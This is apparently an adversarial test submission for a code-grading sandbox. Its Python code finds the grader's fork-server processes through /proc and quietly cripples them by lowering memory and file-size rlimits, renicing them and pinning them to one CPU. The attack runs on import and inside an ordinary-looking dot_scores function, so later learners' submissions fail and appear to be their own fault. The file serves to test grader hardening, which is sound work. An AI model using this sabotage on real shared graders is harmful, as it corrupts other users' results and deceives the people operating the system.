"""Attack: poison the fork server, so the next submission graded by this worker fails.

As an ordinary user the sandbox shares the grader's uid, so (unless the jail
refuses it) it can lower its fork server's rlimits, renice it and pin it to
one CPU. The limits here are the subtle kind: forks still work, but every
later sandbox "runs out of memory while being imported", which looks like
the next learner's fault (attack_poison_fork has the loud kind).
CONTRACT 4.4: the worker checks its fork server around each submission and
rebuilds it; the next honest submission must score full marks. Every attempt is best effort: refused, it is harmless.
"""

import os
import resource

import numpy as np


def _fork_servers():
    me = os.getpid()
    found = {os.getppid()} - {0, 1, me}
    try:
        names = os.listdir("/proc")
    except OSError:
        names = []
    for name in names:
        if not name.isdigit() or int(name) == me:
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        if b"grader.sandbox" in cmd or b"prestart" in cmd or b"server" in cmd:
            found.add(int(name))
    return found


def _poison():
    for pid in _fork_servers():
        for limit, value in ((resource.RLIMIT_AS, 64 << 20), (resource.RLIMIT_FSIZE, 0)):
            try:
                resource.prlimit(pid, limit, (value, value))
            except (OSError, ValueError):
                pass
        try:
            os.setpriority(os.PRIO_PROCESS, pid, 19)
        except OSError:
            pass
        try:
            os.sched_setaffinity(pid, {0})
        except (OSError, ValueError):
            pass


_poison()


def dot_scores(Q, K):
    _poison()
    return np.asarray(Q) @ np.swapaxes(np.asarray(K), -1, -2)
